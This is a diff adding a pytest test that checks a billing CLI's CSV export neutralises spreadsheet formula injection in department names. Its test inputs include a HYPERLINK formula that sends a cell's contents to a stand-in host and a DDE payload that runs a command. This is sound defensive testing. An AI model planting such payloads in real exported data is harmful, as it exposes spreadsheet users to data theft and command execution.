@@ -3,6 +3,8 @@ as it reads (no escape sequence, no markup obeyed), an error in one line, never 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -211,3 +213,34 @@ def test_an_api_error_names_the_option_a_person_typed(
     result = invoke(*args)
     assert result.exit_code == 2
     assert result.stderr == f"error: {option}: not acceptable\n"
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A1,"bill")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+)
+def test_showback_csv_keeps_a_name_a_spreadsheet_would_run_as_text(
+    monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    row = {
+        "key": "dept-x",
+        "name": name,
+        "kind": "department",
+        "parent": "=parent",
+        "depth": 2,
+        "allocated_cny": "-1.00",
+        "consumed_cny": "0.00",
+        "own_allocated_cny": "0.00",
+        "allocated_unit_hours": {"vcpu": 4},
+    }
+    bill = {
+        "month": "2026-12",
+        "by": "department",
+        "rows": [row],
+        "total": {"allocated_cny": "-1.00", "consumed_cny": "0.00"},
+    }
+    answer(monkeypatch, 200, bill)
+    result = invoke("-o", "csv", "showback")
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert rows[1][2:6] == ["dept-x", f"'{name}", "department", "'=parent"]
+    assert rows[1][7] == "-1.00"  # a number stays a number
